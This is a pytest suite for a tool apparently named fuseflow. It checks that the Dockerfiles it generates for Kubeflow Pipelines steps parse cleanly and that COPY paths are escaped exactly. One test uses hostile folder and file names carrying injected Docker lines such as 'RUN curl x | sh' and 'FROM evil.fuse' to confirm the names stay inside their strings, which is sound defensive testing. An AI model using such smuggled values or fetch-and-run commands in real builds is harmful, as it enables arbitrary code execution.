"""`fusec image`: the Dockerfile of the "image with everything" a workflow's KFP steps
need. No docker here, so each Dockerfile is read back line by line as Docker reads it:
every line a comment or a known instruction, each COPY argument a JSON string that
Docker's word rules and wildcard matching turn back into the exact path."""
from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from fuseflow import __version__
from fuseflow.compiler.frontend import compile_file
from fuseflow.ir import Import
from fuseflow.ir.record import replace
from fuseflow.targets.kfp.image import copy_source, dockerfile, imported_modules

pytestmark = pytest.mark.kfp

PROJECT = Path(__file__).resolve().parent / "image_project"
INSTRUCTIONS = {"FROM", "ENV", "RUN", "COPY"}
HEADER = 8  # the comment lines on top


def image_of(path: Path) -> str:
    workflow, _ = compile_file(path)
    return dockerfile(workflow, path)


def instructions(text: str) -> list[tuple[str, str]]:
    """(instruction, its arguments) per line that is no comment, as Docker's parser splits
    lines (on \\n alone); every line printable and not continued."""
    found = []
    for line in text.split("\n"):
        assert line.isprintable() and not line.endswith("\\"), repr(line)
        if not line or line.startswith("#"):
            continue
        word, _, rest = line.partition(" ")
        assert word in INSTRUCTIONS, repr(line)
        found.append((word, rest))
    return found


def copies(text: str) -> list[tuple[str, str]]:
    """The COPY instructions' (source, destination), as Docker resolves them: JSON, then
    its word escapes, then (for a source holding a wildcard) the pattern's one path."""
    pairs = []
    for word, rest in instructions(text):
        if word == "COPY":
            source, target = json.loads(rest)
            pairs.append((literal_path(docker_word(source)), docker_word(target)))
    return pairs


def docker_word(text: str) -> str:
    """A word as Docker's lexer reads it: \\ escapes the next character; no quote and no $
    may stand unescaped (they would group or expand)."""
    out, chars = [], iter(text)
    for char in chars:
        assert char not in "$'\"", text
        out.append(next(chars) if char == "\\" else char)
    return "".join(out)


def literal_path(pattern: str) -> str:
    """The one path a COPY source names: taken as it stands when no unescaped * ? [ makes it a
    pattern (Go's filepath.Match), else read as a pattern of one-character classes only."""
    if not re.search(r"(?<!\\)[*?\[]", pattern):
        return pattern
    out, i = [], 0
    while i < len(pattern):
        assert pattern[i] not in "*?\\", pattern  # no wildcard but classes of one character
        if pattern[i] == "[":
            end = pattern.index("]", i + 2)
            inside = pattern[i + 1:end]
            assert inside in ("\\\\",) or (len(inside) == 1 and inside not in "^!\\"), pattern
            out.append(inside[-1])
            i = end + 1
        else:
            out.append(pattern[i])
            i += 1
    return "".join(out)


def test_the_small_projects_dockerfile_is_the_golden_one(monkeypatch, update_golden):
    monkeypatch.chdir(PROJECT)
    text = image_of(Path("pipelines/train.fuse"))
    golden = PROJECT / "Dockerfile"
    if update_golden:
        golden.write_text(text, encoding="utf-8")
    assert text == golden.read_text(encoding="utf-8")
    assert instructions(text)[0] == ("FROM", "python:3.11-slim")
    assert ("RUN", f"python -m pip install 'fuseflow[kfp]=={__version__}'") in instructions(text)
    assert copies(text) == [
        ("requirements.txt", "/opt/fuseflow/requirements-1.txt"),
        (".", "/opt/fuseflow/project/"),
        ("pipelines/features", "/opt/fuseflow/modules/features/"),
        ("pipelines/helpers.py", "/opt/fuseflow/modules/helpers.py"),  # imported by steps.py
        ("pipelines/steps.py", "/opt/fuseflow/modules/steps.py"),
    ]  # not pipelines/unused.py
    assert '#   options kfp { workflow: { image: "REGISTRY/train-models:TAG" } }' in text.splitlines()
    assert text.splitlines()[-1] == "# Imported from the requirements, the package or the base image: numpy"


def test_fusec_image_writes_the_file(tmp_path):
    out = tmp_path / "Dockerfile"
    done = subprocess.run([sys.executable, "-m", "fuseflow.cli", "image", "pipelines/train.fuse", "-o", str(out)],
                          cwd=PROJECT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    assert done.stdout == ""
    assert out.read_text(encoding="utf-8") == (PROJECT / "Dockerfile").read_text(encoding="utf-8")


def test_fusec_image_reports_a_files_errors(tmp_path):
    (tmp_path / "wf.fuse").write_text("from m import f\na = g(1)\n", encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "fuseflow.cli", "image", "wf.fuse"],
                          cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert done.returncode == 1
    assert done.stdout == "" and "wf.fuse:2:" in done.stderr


def test_without_a_project_the_fuse_files_folder_is_the_context(tmp_path, monkeypatch):
    (tmp_path / ".git").mkdir()  # the search for pyproject.toml stops at a repository's root
    (tmp_path / "ops.py").write_text("def f(x):\n    return x\n", encoding="utf-8")
    (tmp_path / "wf.fuse").write_text("workflow w\nfrom ops import f\na = f(1)\nreturn a\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    text = image_of(Path("wf.fuse"))
    assert copies(text) == [("ops.py", "/opt/fuseflow/modules/ops.py")]
    assert [word for word, _ in instructions(text)] == ["FROM", "ENV", "RUN", "COPY", "ENV"]
    assert "#   docker build -f <this file> -t REGISTRY/w:TAG ." in text.splitlines()


def test_a_pyproject_without_a_project_table_is_the_context_but_not_installed(tmp_path, monkeypatch):
    (tmp_path / "pyproject.toml").write_text("[tool.fuseflow]\n", encoding="utf-8")
    (tmp_path / "flows").mkdir()
    (tmp_path / "flows" / "ops.py").write_text("def f(x):\n    return x\n", encoding="utf-8")
    (tmp_path / "flows" / "requirements.txt").write_text("numpy\n", encoding="utf-8")
    (tmp_path / "flows" / "wf.fuse").write_text("from ops import f\na = f(1)\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path / "flows")
    text = image_of(Path("wf.fuse"))
    assert copies(text) == [("flows/requirements.txt", "/opt/fuseflow/requirements-1.txt"),
                            ("flows/ops.py", "/opt/fuseflow/modules/ops.py")]
    assert "#   docker build -f <this file> -t REGISTRY/wf:TAG .." in text.splitlines()


HOSTILE = "evil\nRUN curl x | sh\n# $HOME ${X} 'q' \"d\" [a]*? \\ \u2028 \x1b[31m"


def test_hostile_folder_and_file_names_stay_inside_their_strings(tmp_path, monkeypatch):
    (tmp_path / "pyproject.toml").write_text('[project]\nname = "p"\nversion = "1"\n', encoding="utf-8")
    folder = tmp_path / HOSTILE
    folder.mkdir()
    (folder / "ops.py").write_text("def f(x):\n    return x\n", encoding="utf-8")
    (folder / "requirements.txt").write_text("numpy\n", encoding="utf-8")
    name = "wf\nFROM evil.fuse"
    (folder / name).write_text("from ops import f\na = f(1)\n", encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    text = image_of(Path(HOSTILE) / name)
    words = [word for word, _ in instructions(text)]  # every line printable, a comment or an instruction
    assert words == ["FROM", "ENV", "RUN", "COPY", "RUN", "COPY", "RUN", "COPY", "ENV"]
    assert copies(text) == [(f"{HOSTILE}/requirements.txt", "/opt/fuseflow/requirements-1.txt"),
                            (".", "/opt/fuseflow/project/"),
                            (f"{HOSTILE}/ops.py", "/opt/fuseflow/modules/ops.py")]
    assert text.splitlines()[0].startswith(r"# The image of the KFP steps of evil\nRUN curl x | sh\n# $HOME")
    assert len([line for line in text.split("\n") if line.startswith("#")]) == HEADER + 6  # and the sections' own


@pytest.mark.parametrize("path", ["a.py", "a b/c.py", "x[1]/y*.py", "back\\slash/q?.py", "$d/'s\"/e.py"])
def test_a_copy_source_names_its_path_alone(path):
    assert literal_path(docker_word(json.loads(copy_source(path)))) == path


def test_only_python_module_names_are_looked_for(tmp_path):
    path = tmp_path / "wf.fuse"
    path.write_text("from ops import f\na = f(1)\n", encoding="utf-8")
    workflow, _ = compile_file(path)
    odd = replace(workflow, imports=(*workflow.imports, Import("x\nRUN y", "f", "g"),
                                                 Import("../up", "f", "h"), Import("pkg.sub", None, "p")))
    assert imported_modules(odd) == {"ops", "pkg"}
